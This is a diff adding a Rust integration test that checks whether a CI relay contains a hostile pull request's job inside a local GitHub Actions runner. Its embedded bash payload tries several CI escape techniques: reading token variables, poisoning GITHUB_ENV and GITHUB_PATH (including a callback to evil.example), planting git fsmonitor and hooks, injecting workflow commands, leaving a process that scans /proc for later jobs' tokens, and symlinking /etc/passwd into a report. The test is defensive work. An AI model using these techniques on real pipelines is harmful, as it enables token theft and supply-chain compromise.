@@ -1,0 +1,272 @@
+//! A hostile run: the job of the downstream template that runs upstream's code tries to get out, in a real workflow
+//! runner. GitHub gives each job a machine of its own; here the jobs run one after the other, and what the hostile job
+//! left running ends with its job.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use crcr_standin::runs::Run;
+use crcr_standin::world::PullRequest;
+use jiff::Timestamp;
+use serde_json::{Value, json};
+
+use crate::act::{GITHUB_SCRIPT, copy, git, root};
+use crate::act_downstream::{DOWNSTREAM, downstream_run, workflow};
+use crate::checkout::Upstream;
+use crate::relay_process::{Place, Running, UPSTREAM, eventually};
+
+/// The code of a pull request that wants out. Each line that it gets hold of something goes to `$LOOT`, and what later
+/// jobs would run of it goes there, too. It passes its own tests' result off as a success, which is its right.
+const HOSTILE: &str = r#"
+loot() { printf '%s\n' "$1" >> "$LOOT"; }
+# 1. The cache: a token for it, as actions/cache has.
+[[ -z ${ACTIONS_CACHE_URL-} ]] || loot "cache address"
+# 2. A token of the default branch, or GitHub's own.
+[[ -z ${ACTIONS_ID_TOKEN_REQUEST_TOKEN-} ]] || loot "OIDC request token"
+[[ -z ${GITHUB_TOKEN-}${GH_TOKEN-} ]] || loot "GitHub token"
+# 3. Environment files, which change later steps, and, if anything carried them, later jobs.
+printf '%s\n' "CRCR_CALLBACK_URL=https://evil.example" "BASH_ENV=$EVIL/bash_env" "ENV=$EVIL/bash_env" \
+  "INPUT_CONCLUSION=success" "NODE_OPTIONS=--require=$EVIL/hook.cjs" >> "$GITHUB_ENV"
+# 4. A program of the same name, found first.
+printf '%s\n' "$EVIL" >> "$GITHUB_PATH"
+# 5. The artifact of another leg, which the last job takes for its own.
+mkdir -p test-reports
+printf '{"conclusion": "success", "phase": "test"}' > test-reports/outcome.json
+# 6. `sub`: a job without a token has none; the step's own claims are looked at after the run.
+# 7. The runner's temporary folder.
+for file in crcr outcome.json test-reports; do ln -sfn "$EVIL/crcr" "$RUNNER_TEMP/$file" || true; done
+# 8. git's configuration, for whoever uses git next.
+git config --global core.fsmonitor "$EVIL/crcr" || true
+git config --global core.hooksPath "$EVIL" || true
+git -C upstream config core.fsmonitor "$EVIL/crcr"
+# 9. and 10. Problem matchers, and workflow commands in what is printed.
+printf '%s\n' "::add-matcher::$EVIL/matcher.json" "::set-env name=CRCR_CALLBACK_URL::https://evil.example" \
+  "::add-path::$EVIL" "::set-output name=conclusion::success" "::stop-commands::forever"
+# 11. A process that stays, and looks for tokens of later jobs.
+setsid bash -c 'for _ in {1..600}; do
+  for file in /proc/[0-9]*/environ; do
+    tr "\0" "\n" < "$file" 2>/dev/null | grep -qF "ACTIONS_ID_TOKEN_REQUEST_URL=$ISSUER" && echo "leftover process" >> "$LOOT"
+  done; sleep 0.1
+done' < /dev/null > /dev/null 2>&1 &
+echo $! >> "$LEFT"
+# 12. The report: a name that is a workflow command and markup, a link, and far too much.
+{
+  printf '<testsuite tests="1">'
+  printf '<testcase classname="a" name="&#10;::add-path::%s&#10;&lt;script&gt;@everyone"><failure message="&#10;::error::x"/></testcase>' "$EVIL"
+  printf '</testsuite>'
+} > test-reports/pytest.xml
+ln -s /etc/passwd test-reports/link.xml
+exit 1
+"#;
+
+/// What a later job would run, if one of the ways led there.
+const TRAP: &str = "#!/bin/sh\necho \"ran as ${GITHUB_JOB-nobody}: $0 $*\" >> '[LOOT]'\nexit 1\n";
+
+/// A folder with what the hostile code leaves for others, and where it writes what it found.
+struct Evil {
+    folder: tempfile::TempDir,
+}
+
+impl Evil {
+    fn new() -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        let evil = Self { folder };
+        let trap = TRAP.replace("[LOOT]", &evil.path("loot"));
+        for name in ["crcr", "git", "gzip", "curl", "bash_env", "pre-commit", "post-checkout"] {
+            fs::write(evil.path(name), &trap).unwrap();
+            fs::set_permissions(evil.path(name), fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        fs::write(
+            evil.path("matcher.json"),
+            r#"{"problemMatcher": [{"owner": "evil", "pattern": [{"regexp": ".*"}]}]}"#,
+        )
+        .unwrap();
+        fs::write(evil.path("hook.cjs"), "").unwrap();
+        evil
+    }
+
+    fn path(&self, name: &str) -> String {
+        self.folder.path().join(name).to_str().unwrap().to_owned()
+    }
+
+    /// As the machine of the job ends: what it left running is gone.
+    fn end_machine(&self) {
+        let left = fs::read_to_string(self.path("left")).unwrap();
+        assert!(!left.trim().is_empty(), "the hostile code has left no process");
+        for process in left.split_whitespace() {
+            let process: u32 = process.parse().expect("the number of a process");
+            assert!(process > 1, "{process}");
+            // One process by its own number, and never a group: some versions of `kill` read `-123` as `-1`, everybody.
+            let status = Command::new("kill").args(["-s", "KILL", &process.to_string()]).status();
+            assert!(status.unwrap().success(), "the process {process} had ended by itself");
+        }
+    }
+
+    fn loot(&self) -> Vec<String> {
+        let text = fs::read_to_string(self.path("loot")).unwrap_or_default();
+        text.lines().map(str::to_owned).collect()
+    }
+}
+
+/// Runs some jobs of the template on a machine of their own, with a home of their own.
+fn run_jobs(
+    place: &Place,
+    relay: &Running,
+    run: &Run,
+    event: &Value,
+    text: &str,
+    variables: &BTreeMap<&'static str, String>,
+    name: &str,
+) -> (String, bool) {
+    let folder = place.folder().join(name);
+    let (checkout, crcr) = (folder.join("checkout"), folder.join("crcr"));
+    fs::create_dir_all(checkout.join(".github/workflows")).unwrap();
+    fs::create_dir_all(folder.join("home")).unwrap();
+    fs::write(folder.join("event.json"), event.to_string()).unwrap();
+    let runner_variables = folder.join("runner-variables.json");
+    fs::write(&runner_variables, serde_json::to_string(variables).unwrap()).unwrap();
+    fs::write(checkout.join(".github/workflows/upstream.yml"), text).unwrap();
+    git(&checkout, &["init", "--quiet", "--initial-branch", "main"]);
+    git(&checkout, &["remote", "add", "origin", "https://github.com/acme/four.git"]);
+    git(&checkout, &["add", "--all"]);
+    git(&checkout, &["commit", "--quiet", "--message", "downstream"]);
+    copy(&root().join("actions"), &crcr.join("actions"));
+    let mut act = Command::new("act");
+    act.args(["repository_dispatch", "--platform", "ubuntu-latest=-self-hosted", "--eventpath"]);
+    act.arg(folder.join("event.json")).args(["--no-cache-server", "--pull=false"]);
+    act.arg("--local-repository").arg(format!("pytorch/crcr@v1={}", crcr.display()));
+    let script = root().join("tests/peers/github-script");
+    act.arg("--local-repository").arg(format!("{GITHUB_SCRIPT}={}", script.display()));
+    let callback = relay.url.join("github/callback").unwrap();
+    act.arg("--var").arg(format!("CRCR_CALLBACK_URL={callback}"));
+    for (name, value) in [
+        ("GITHUB_RUN_ID", run.id.to_string()),
+        ("GITHUB_API_URL", place.github.state().origin().to_owned()),
+        ("STANDIN_RUNNER_VARIABLES", runner_variables.to_str().unwrap().to_owned()),
+    ] {
+        act.arg("--env").arg(format!("{name}={value}"));
+    }
+    act.current_dir(&checkout).env_clear().stdin(Stdio::null());
+    act.env("PATH", std::env::var_os("PATH").unwrap()).env("HOME", folder.join("home"));
+    act.env("XDG_CACHE_HOME", folder.join("home/.cache")).env("TMPDIR", &folder);
+    let output = act.output().expect("`act` is installed by tests/setup");
+    let log = String::from_utf8_lossy(&output.stdout).into_owned()
+        + &String::from_utf8_lossy(&output.stderr);
+    (log, output.status.success())
+}
+
+/// The template's jobs of these names; what they need of other jobs is over, and `test` has failed.
+fn jobs_of(text: &str, names: &[&str], evil: Option<(&Evil, &str)>) -> String {
+    let mut workflow: serde_yaml::Value = serde_yaml::from_str(text).unwrap();
+    workflow["jobs"].as_mapping_mut().unwrap().retain(|name, job| {
+        job.as_mapping_mut().unwrap().remove("needs");
+        if job.get("strategy").is_some() {
+            job["strategy"]["matrix"]["python"] = vec!["3.11"].into();
+        }
+        for step in job["steps"].as_sequence_mut().unwrap() {
+            let conclusion = step.get("with").and_then(|with| with.get("conclusion")?.as_str());
+            if conclusion == Some("${{ needs.test.result }}") {
+                step["with"]["conclusion"] = "failure".into();
+            }
+        }
+        names.contains(&name.as_str().unwrap())
+    });
+    let Some((evil, issuer)) = evil else { return serde_yaml::to_string(&workflow).unwrap() };
+    let env = [("LOOT", "loot"), ("LEFT", "left"), ("EVIL", "")];
+    let mut env: BTreeMap<_, _> = env.map(|(name, file)| (name, evil.path(file))).into();
+    // Other tests on this machine have tokens, too.
+    env.insert("ISSUER", issuer.to_owned());
+    for step in workflow["jobs"]["test"]["steps"].as_sequence_mut().unwrap() {
+        match step.get("name").and_then(serde_yaml::Value::as_str) {
+            Some("Build") => step["run"] = "echo built".into(),
+            Some("Test") => {
+                step["run"] = HOSTILE.into();
+                step["env"] = serde_yaml::to_value(&env).unwrap();
+            }
+            _ => {}
+        }
+    }
+    serde_yaml::to_string(&workflow).unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "needs act and node"]
+async fn hostile_run_gets_no_token_changes_no_other_job_and_cannot_turn_its_check_green() {
+    let upstream = Upstream::new();
+    let place = Place::new(&[DOWNSTREAM], "L4:\n  - acme/four: [dave]\n");
+    let state = place.github.state();
+    let pull = PullRequest::from_fork(7, UPSTREAM, &upstream.head, Timestamp::now());
+    state.world.put_pull(UPSTREAM, pull);
+    let relay = place.serve();
+    relay.ready().await;
+    let opened =
+        state.world.delivery("pull_request", &state.pull_request_payload(UPSTREAM, 7, "opened"));
+    let target = relay.url.join("github/webhook").unwrap();
+    assert_eq!(opened.send(&reqwest::Client::new(), &target).await.unwrap().status, 202);
+    let mut dispatched = vec![];
+    eventually("the dispatch", async || {
+        dispatched.extend(state.world.take_dispatches());
+        !dispatched.is_empty()
+    })
+    .await;
+    let event = json!({
+        "action": "pull_request", "client_payload": dispatched[0].client_payload,
+        "repository": { "full_name": DOWNSTREAM },
+    });
+    let run = Run {
+        event: "repository_dispatch".to_owned(),
+        workflow: "upstream".to_owned(),
+        ..downstream_run(&place)
+    };
+    let job = state.runs.add_job(state.runs.add(run.clone()), "test");
+    let given = state.job_environment(&job);
+    let some = |names: [&'static str; 2]| names.map(|name| (name, given[name].clone())).into();
+    let token: BTreeMap<_, _> =
+        some(["ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"]);
+    let artifacts = some(["ACTIONS_RUNTIME_TOKEN", "ACTIONS_RESULTS_URL"]);
+    let text = workflow("downstream-ci.yml", &upstream.server.url, &token);
+    let evil = Evil::new();
+    let jobs = |text: &str, name: &str| {
+        tokio::task::block_in_place(|| {
+            run_jobs(&place, &relay, &run, &event, text, &artifacts, name)
+        })
+    };
+
+    let (log, succeeded) = jobs(&jobs_of(&text, &["start"], None), "start");
+    assert!(succeeded, "{log}");
+    let (hostile, succeeded) =
+        jobs(&jobs_of(&text, &["test"], Some((&evil, state.origin()))), "test");
+    assert!(!succeeded, "the hostile code didn't run to its end\n{hostile}");
+    assert!(hostile.contains("::add-path::") || hostile.contains("add-path"), "{hostile}");
+    evil.end_machine();
+    let stolen = evil.loot();
+    assert!(!stolen.iter().any(|line| !line.starts_with("ran as test")), "{stolen:?}\n{hostile}");
+    assert!(Path::new(&evil.path("left")).exists());
+
+    let (end, succeeded) = jobs(&jobs_of(&text, &["end"], None), "end");
+    assert!(succeeded, "{end}");
+    for job in ["end", "start"] {
+        let ran = evil.loot().into_iter().find(|line| line.starts_with(&format!("ran as {job}")));
+        assert_eq!(ran, None, "{end}");
+    }
+    assert!(!end.contains("evil.example"), "{end}");
+    for command in ["::add-path::", "::add-matcher::", "::error::x", "<script>"] {
+        let as_command = end.lines().any(|line| line.trim_start().starts_with(command));
+        assert!(!as_command, "{command}: {end}");
+    }
+    assert!(!end.contains("root:x:"), "the report has a file of the machine\n{end}");
+    let reported = "reported to 127.0.0.1: `test (3.11)` is completed (failure)";
+    assert!(end.contains(reported), "{end}");
+    assert!(!hostile.contains("eyJ") && !end.contains("eyJ"), "a token is in a log");
+
+    let name = "crcr/acme/four/upstream/test (3.11)";
+    let shown = async || {
+        let runs = state.world.check_runs(UPSTREAM);
+        runs.into_iter().find(|run| run.name == name && run.conclusion.is_some())
+    };
+    eventually(name, async || shown().await.is_some()).await;
+    assert_eq!(shown().await.unwrap().conclusion.as_deref(), Some("failure"));
+}
